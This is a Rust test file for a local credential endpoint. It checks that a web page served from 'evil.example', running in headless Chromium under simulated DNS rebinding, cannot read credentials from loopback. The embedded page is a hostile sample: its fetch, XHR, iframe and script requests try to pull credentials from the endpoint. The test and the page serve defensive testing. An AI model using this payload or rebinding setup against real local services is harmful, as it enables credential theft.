//! A web page that knows everything, the token too: a browser lets it send requests to loopback, and it gets nothing.

use crate::exec::Program;
use keyfob_tests::{Run, World, parts};
use std::io::{BufRead, BufReader, Write};
use std::net::{TcpListener, TcpStream};

/// What the page's own server answers: the page must see this, or it sees nothing at all.
const CONTROL: &str = "the page can read this";
/// The page comes from this host, at the port of the endpoint.
const HOST: &str = "evil.example";

/// Tries what a page can try, and shows all that it got.
const PAGE: &str = r#"<!doctype html><body><pre id="seen"></pre><script>
const seen = document.getElementById("seen"), say = text => seen.textContent += text + "\n";
const token = "TOKEN", urls = ["http://evil.example:PORT/credentials", "http://127.0.0.1:PORT/credentials", "http://localhost:PORT/credentials"];
const attempt = async (name, call) => { try { say(name + ": " + await call()) } catch (error) { say(name + ": " + error) } };
(async () => {
  await attempt("control", async () => await (await fetch("/control")).text());
  for (const url of urls) {
    await attempt("token " + url, async () => await (await fetch(url, {headers: {Authorization: token}})).text());
    await attempt("plain " + url, async () => await (await fetch(url)).text());
    await attempt("opaque " + url, async () => await (await fetch(url, {mode: "no-cors", credentials: "include"})).text());
    await attempt("post " + url, async () => await (await fetch(url, {method: "POST", body: token})).text());
    await attempt("xhr " + url, () => new Promise((done, failed) => {
      const request = new XMLHttpRequest(); request.open("GET", url);
      request.setRequestHeader("Authorization", token);
      request.onload = () => done(request.responseText); request.onerror = () => failed("refused"); request.send();
    }));
    await attempt("frame " + url, () => new Promise(done => {
      const frame = document.createElement("iframe"); frame.src = url;
      frame.onload = () => { try { done(frame.contentDocument.body.textContent) } catch (error) { done(error) } };
      document.body.append(frame); setTimeout(() => done("no answer"), 1000);
    }));
    await attempt("script " + url, () => new Promise(done => {
      const script = document.createElement("script"); script.src = url;
      script.onload = () => done("loaded"); script.onerror = () => done("refused"); document.body.append(script);
    }));
  }
  say("done");
})();
</script>"#;

/// Serves the page, until the page has come: then its own name leads to the endpoint, as after DNS rebinding.
fn serve(page: String, endpoint: u16) -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let mut lines = BufReader::new(stream.try_clone().unwrap()).lines().map_while(Result::ok);
            let head: Vec<String> = lines.by_ref().take_while(|line| !line.is_empty()).collect();
            let first = head.first().cloned().unwrap_or_default();
            if first.contains(" /credentials ") {
                let mut target = TcpStream::connect(("127.0.0.1", endpoint)).unwrap();
                let _ = target.write_all(format!("{}\r\n\r\n", head.join("\r\n")).as_bytes());
                let _ = std::io::copy(&mut target, &mut stream);
                continue;
            }
            let body = if first.contains(" /control ") { CONTROL } else { &page };
            let head = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\nContent-Length:";
            let _ = stream.write_all(format!("{head} {}\r\n\r\n{body}", body.len()).as_bytes());
        }
    });
    port
}

#[test]
fn a_page_in_a_browser_gets_nothing_also_under_a_rebound_name() {
    let chromium = match parts::on_path("chromium", &["--version"], "Chromium") {
        Ok(chromium) => chromium,
        Err(why) => return eprintln!("skipped: {why}"),
    };
    let world = World::with_profile();
    let program = Program::start(&world, &["p"]);
    let id = program.access_key_id();
    let page = PAGE.replace("PORT", &program.port.to_string()).replace("TOKEN", &program.token);
    let port = serve(page, program.port);
    let mut browser = world.command(chromium);
    browser
        .args(["--headless", "--no-sandbox", "--disable-gpu", "--dump-dom", "--virtual-time-budget=20000"])
        .arg(format!("--user-data-dir={}", world.path("home/browser").display()))
        .arg(format!("--host-resolver-rules=MAP {HOST}:{} 127.0.0.1:{port}", program.port))
        .arg(format!("http://{HOST}:{}/", program.port));
    let run = Run::from(browser.output().unwrap());
    // What the browser keeps of the page names the token; it is not ours to hunt there.
    std::fs::remove_dir_all(world.path("home/browser")).unwrap();
    let page = run.ok();
    let seen =
        page.split("<pre id=\"seen\">").nth(1).and_then(|rest| rest.split("</pre>").next()).unwrap_or(page);
    assert!(seen.contains(&format!("control: {CONTROL}")), "the page can't run: {run:?}");
    assert!(seen.trim_end().ends_with("done"), "{seen}");
    for canary in [id.as_str(), "SecretAccessKey", "Expiration"] {
        assert!(!seen.contains(canary), "{seen}");
    }
    // It did reach the endpoint.
    let audit = world.keyfob(&["audit", "--json"]);
    let refused =
        |why: &str| audit.ok().lines().any(|line| line.contains("\"endpoint\"") && line.contains(why));
    assert!(refused("Host is not this endpoint") && refused("through a browser"), "{}", audit.ok());
    program.access_key_id();
    program.end();
}
